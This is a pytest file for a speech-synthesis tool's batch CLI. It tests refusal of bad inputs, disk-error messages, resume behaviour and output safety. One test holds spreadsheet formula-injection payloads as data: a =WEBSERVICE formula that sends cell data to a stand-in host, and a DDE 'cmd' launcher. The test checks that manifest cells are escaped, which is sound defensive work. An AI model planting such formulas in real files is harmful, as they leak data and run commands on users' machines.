"""``batch`` through the real CLI: checked whole before a project exists, one line per failed line, no
input ever overwritten, spreadsheet-safe manifests, and a way on after the script was edited.

Each refused set-up must leave no project (so the same command can simply be run again once fixed) and
must never block on a file that is not a regular file.
"""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile as sf

from tests.batch.helpers import voice_clip
from tests.reliability.children import Child
from tests.reliability.helpers import FAST_FLAGS, assert_cli_error, assert_no_temp_files, disk_fills_up, run_cli
from valle_studio.batch.project import BatchProject
from valle_studio.studio.voices import VoiceLibrary

SR = 24_000


@pytest.fixture()
def reader(tmp_path: Path) -> Path:
    clip = tmp_path / "reader.wav"
    sf.write(clip, voice_clip(2.0), SR)
    return clip


def batch_args(model: Path, tokenizer: Path, script: Path, out: Path, *extra: str) -> list[str]:
    return ["batch", str(script), "--out-dir", str(out), "--model", str(model), "--tokenizer", str(tokenizer),
            *FAST_FLAGS, *extra]


def _script(name: str, content: bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        (folder / name).write_bytes(content)
        return folder / name

    return make


def _fifo(name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        os.mkfifo(folder / name)
        return folder / name

    return make


# Binary bytes without a single NUL, so that the UTF-16 sniffing cannot catch them.
_NOISE = b"Chapter 1\n" + bytes(b for b in np.random.default_rng(7).integers(1, 256, 3000, dtype=np.uint8))
PLAIN = b"Good morning.\nGood night.\n"

# (id, script maker, extra flags, extra set-up, words of the refusal)
SETUPS: list[tuple[str, Callable[[Path], Path], list[str], str, tuple[str, ...]]] = [
    ("random-bytes-script", _script("notes.txt", _NOISE), [], "", ("notes.txt", "binary data")),
    ("spreadsheet-saved-as-xlsx", _script("lines.csv", b"PK\x03\x04" + _NOISE[:400]), [], "",
     ("lines.csv", "ZIP archive", ".csv")),
    ("script-is-a-named-pipe", _fifo("pipe.txt"), [], "", ("pipe.txt", "named pipe")),
    ("script-is-a-device", lambda _f: Path("/dev/zero"), [], "", ("/dev/zero", "character device")),
    ("template-with-a-conversion", _script("s.txt", PLAIN), ["--template", "{index}-{slug!r}"], "",
     ("--template", "unknown field")),
    ("prompt-codes-of-the-wrong-shape", _script("s.txt", PLAIN), [], "wide-codes", ("--prompt", "[T, 8]")),
    ("prompt-is-a-named-pipe", _script("s.txt", PLAIN), [], "fifo-prompt", ("--prompt", "named pipe")),
    ("saved-voice-clip-is-a-named-pipe", _script("s.txt", b"[Piper] Hello there.\n"), [], "fifo-voice",
     ("named pipe",)),
    ("duration-on-a-model-without-nar-len", _script("s.txt", PLAIN), ["--duration", "90"], "ar-model",
     ("--duration", "AR+NAR")),
]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
@pytest.mark.parametrize(("case", "make", "extra", "setup", "says"), SETUPS, ids=[s[0] for s in SETUPS])
def test_bad_setups_are_refused_before_a_project_exists(case: str, make: Callable[[Path], Path], extra: list[str],
                                                        setup: str, says: tuple[str, ...], tmp_path: Path,
                                                        tiny_model: Path, tokenizer: Path, reader: Path,
                                                        with_codec: Any, never_blocks: None,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    script = make(tmp_path)
    model = tiny_model
    voice = ["--prompt", str(reader)]
    if setup == "wide-codes":
        np.save(tmp_path / "wide.npy", np.zeros((40, 5), np.int64))
        voice = ["--prompt", str(tmp_path / "wide.npy")]
    elif setup == "fifo-prompt":
        os.mkfifo(tmp_path / "voice.npy")
        voice = ["--prompt", str(tmp_path / "voice.npy")]
    elif setup == "fifo-voice":
        saved = VoiceLibrary().save("Piper", [(voice_clip(), SR)])
        saved.clips[0].path.unlink()
        os.mkfifo(saved.clips[0].path)
        voice = []
    elif setup == "ar-model":
        from valle_studio.engine.debug import write_tiny_checkpoint

        model = write_tiny_checkpoint(tmp_path / "ar-only.sft", capabilities=("ar", "nar"), seed=2)
    out = tmp_path / "out"
    outcome = run_cli(capsys, batch_args(model, tokenizer, script, out, *voice, *extra))
    assert_cli_error(outcome, *says)
    assert not out.exists(), "a refused batch left its folder (and project) behind"


def test_a_batch_refused_for_a_missing_codec_runs_as_is_once_it_is_there(
        tmp_path: Path, tiny_model: Path, tokenizer: Path, reader: Path, codec: Any,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    script = tmp_path / "s.txt"
    script.write_bytes(PLAIN)
    out = tmp_path / "lines"
    out.mkdir()  # the user made the folder: it stays, empty
    argv = batch_args(tiny_model, tokenizer, script, out, "--prompt", str(reader))
    assert_cli_error(run_cli(capsys, argv), "codec", "not installed")
    assert list(out.iterdir()) == []

    import valle_studio.engine.synthesizer as synthesizer

    monkeypatch.setattr(synthesizer, "resolve_codec", lambda store, device: codec)  # downloaded meanwhile
    outcome = run_cli(capsys, argv)  # the very same command, no --resume
    assert outcome.code == 0, outcome.stderr
    assert sorted(p.name for p in out.glob("*.wav")) == ["001_reader_good-morning.wav", "002_reader_good-night.wav"]


def test_read_only_file_system_and_full_disk_are_worded(tmp_path: Path, tiny_model: Path, tokenizer: Path,
                                                        reader: Path, with_codec: Any,
                                                        monkeypatch: pytest.MonkeyPatch,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    import errno

    from valle_studio.core import atomic

    script = tmp_path / "s.txt"
    script.write_bytes(PLAIN)
    mounted = tmp_path / "card"
    mounted.mkdir()
    real_open = atomic.os.open

    def read_only(path: Any, flags: int, *args: Any) -> int:
        if Path(path).parent == mounted and flags & os.O_CREAT:
            raise OSError(errno.EROFS, "Read-only file system", str(path))
        return real_open(path, flags, *args)

    with monkeypatch.context() as patch:
        patch.setattr(atomic.os, "open", read_only)
        line = assert_cli_error(run_cli(capsys, batch_args(tiny_model, tokenizer, script, mounted, "--prompt",
                                                           str(reader))), "read-only file system", str(mounted))
    assert "[Errno" not in line and list(mounted.iterdir()) == []

    real_mkdir = Path.mkdir

    def full(self: Path, *args: Any, **kwargs: Any) -> None:
        if self.name == ".valle-batch":
            raise OSError(errno.ENOSPC, "No space left on device", str(self))
        real_mkdir(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", full)
    out = tmp_path / "out"
    line = assert_cli_error(run_cli(capsys, batch_args(tiny_model, tokenizer, script, out, "--prompt", str(reader))),
                            "disk is full", ".valle-batch")
    assert "[Errno" not in line and not out.exists()


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc to tell files apart")
def test_a_full_disk_on_one_line_costs_that_line_and_resume_writes_it(tmp_path: Path, tiny_model: Path,
                                                                      tokenizer: Path, reader: Path, with_codec: Any,
                                                                      monkeypatch: pytest.MonkeyPatch,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    script = tmp_path / "s.txt"
    script.write_text("First words.\nSecond words.\nThird words.\n", encoding="utf-8")
    out = tmp_path / "out"
    argv = batch_args(tiny_model, tokenizer, script, out, "--prompt", str(reader), "--template", "{index}")
    with monkeypatch.context() as patch:
        disk_fills_up(patch, when="2.wav")
        outcome = run_cli(capsys, argv)
    assert outcome.code == 1 and "Traceback" not in outcome.stderr
    assert "disk is full" in outcome.stderr and "2.wav" in outcome.stderr and "[Errno" not in outcome.stderr
    assert_no_temp_files(out)
    first = (out / "1.wav").stat().st_mtime_ns
    outcome = run_cli(capsys, [*argv, "--resume"])
    assert outcome.code == 0, outcome.stderr
    assert sorted(p.name for p in out.glob("*.wav")) == ["1.wav", "2.wav", "3.wav"]
    assert (out / "1.wav").stat().st_mtime_ns == first


def test_outputs_never_overwrite_what_the_batch_reads(tmp_path: Path, tiny_model: Path, tokenizer: Path,
                                                      with_codec: Any, capsys: pytest.CaptureFixture[str]) -> None:
    """The reference clip and the script sit in the output folder under the very names the batch would
    give its outputs; even with --overwrite they stay as they are."""
    out = tmp_path / "out"
    out.mkdir()
    clip = out / "1-hello.wav"
    sf.write(clip, voice_clip(2.0), SR)
    clip_bytes = clip.read_bytes()
    script = out / "manifest.csv"
    script.write_text("text\nHello.\nGoodbye.\n", encoding="utf-8")
    script_bytes = script.read_bytes()
    outcome = run_cli(capsys, batch_args(tiny_model, tokenizer, script, out, "--prompt", str(clip), "--overwrite",
                                         "--template", "{index}-{slug}"))
    assert outcome.code == 0, outcome.stderr
    assert clip.read_bytes() == clip_bytes and script.read_bytes() == script_bytes
    names = {p.name for p in out.iterdir()}
    assert {"1-hello-2.wav", "2-goodbye.wav", "manifest-2.csv", "manifest.json"} <= names
    assert any("1-hello.wav already exists" in note for note in outcome.notes)


def test_manifest_cells_are_never_spreadsheet_formulas(tmp_path: Path, tiny_model: Path, tokenizer: Path,
                                                       reader: Path, with_codec: Any,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    lines = ["=WEBSERVICE(\"http://example.invalid/?\"&A1)", "+3+cmd|' /C calc'!A0", "@SUM(9;9) is a sum",
             "-5 degrees outside", "A normal line."]
    script = tmp_path / "hostile.csv"
    with open(script, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["text", "filename"], *[[text, f"f{i}"] for i, text in enumerate(lines)]])
    out = tmp_path / "out"
    outcome = run_cli(capsys, batch_args(tiny_model, tokenizer, script, out, "--prompt", str(reader)))
    assert outcome.code == 0, outcome.stderr
    with open(out / "manifest.csv", newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    assert [row["text"] for row in table] == ["'" + text for text in lines[:4]] + [lines[4]]
    for row in table:  # no cell a spreadsheet would evaluate
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    spoken = [entry["text"] for entry in json.loads((out / "manifest.json").read_text(encoding="utf-8"))["files"]]
    assert spoken == lines  # the JSON keeps the text exactly


def test_an_edited_script_goes_on_keeping_unchanged_finished_lines(tmp_path: Path, tiny_model: Path,
                                                                   tokenizer: Path, reader: Path, with_codec: Any,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    script = tmp_path / "play.txt"
    script.write_text("Act one.\nAn echo.\nAn echo.\nThe end.\n", encoding="utf-8")
    out = tmp_path / "play"
    argv = batch_args(tiny_model, tokenizer, script, out, "--prompt", str(reader), "--template", "{index}-{slug}")
    assert run_cli(capsys, argv).code == 0
    with BatchProject.open(out / ".valle-batch") as project:
        takes = {row.text: [t.id for t in row.takes] for row in project.rows}
        echoes = [[t.id for t in row.takes] for row in project.rows if row.text == "An echo."]

    # Act one is cut, a prologue is added, a third echo is added: the two echoes and the end are kept.
    script.write_text("A prologue.\nAn echo.\nAn echo.\nAn echo.\nThe end.\n", encoding="utf-8")
    assert_cli_error(run_cli(capsys, [*argv, "--resume"]), "play.txt changed", "--sync-script")
    outcome = run_cli(capsys, [*argv, "--sync-script"])
    assert outcome.code == 0, outcome.stderr
    assert "keeps 3 finished line(s)" in outcome.stderr and "2 new or edited line(s)" in outcome.stderr
    assert "1 removed" in outcome.stderr and "2 line(s) to generate" in outcome.stderr
    with BatchProject.open(out / ".valle-batch") as project:
        assert [row.text for row in project.rows] == ["A prologue.", "An echo.", "An echo.", "An echo.", "The end."]
        kept = [[t.id for t in row.takes] for row in project.rows if row.text == "An echo."][:2]
        assert kept == echoes and [t.id for t in project.rows[4].takes] == takes["The end."]
        assert all(project.status(row) == "done" for row in project.rows)
    wavs = sorted(p.name for p in out.glob("*.wav"))
    assert wavs == ["1-a-prologue.wav", "2-an-echo.wav", "3-an-echo.wav", "4-an-echo.wav", "5-the-end.wav"]
    files = [e["file"] for e in json.loads((out / "manifest.json").read_text(encoding="utf-8"))["files"]]
    assert files == wavs  # the cut line's file is gone from the folder and the manifest


@pytest.mark.slow
def test_failed_lines_print_one_line_each_and_quiet_means_quiet(tmp_path: Path, batch_home: Path,
                                                                tiny_tokenizer: Path) -> None:
    """In a real process (pytest's own log capture would hide what Python prints by itself): a line of
    punctuation only, a 200 kB line and a line phonemizer warns about ("words count mismatch")."""
    script = tmp_path / "mixed.txt"
    script.write_text("It was 1990, or so.\n?! … ?!\n" + "word " * 40_000 + "\nThe last line.\n", encoding="utf-8")
    out = tmp_path / "out"
    child = Child(tmp_path, "none", ["batch", str(script), "--out-dir", str(out), "--voice", "Reader", "--model",
                                     str(batch_home / "tiny.sft"), "--tokenizer", str(tiny_tokenizer), *FAST_FLAGS,
                                     "--quiet"], batch_home)
    code, err = child.run()
    assert code == 1
    lines = err.strip().splitlines()
    assert "Traceback" not in err and "mismatch" not in err and "WARNING" not in err, err
    failed = [line for line in lines if " FAILED: " in line]
    assert len(failed) == 2 and "line 2 FAILED: there is nothing to say" in failed[0]
    assert "line 3 FAILED: the text is 199,999 characters long" in failed[1]  # the trailing space is cut
    # --quiet keeps what the user must see: each failure, each take's verdict line (issue 14), the summary.
    verdicts = [line for line in lines if line.strip().startswith("line ") and ", take (seed" in line]
    assert len(verdicts) == 2 and all(" FAILED: " not in line for line in verdicts)
    rest = [line for line in lines if line not in verdicts]
    assert len(rest) == 4 and rest[2].startswith("done: 2 of 4 lines") and "2 line(s) failed" in rest[3]
    log = (batch_home / "logs" / "cli.log").read_text(encoding="utf-8")
    assert "Traceback" in log and "batch row 2 failed" in log and "words count mismatch" in log
    assert str(batch_home / "logs" / "cli.log") in rest[3]

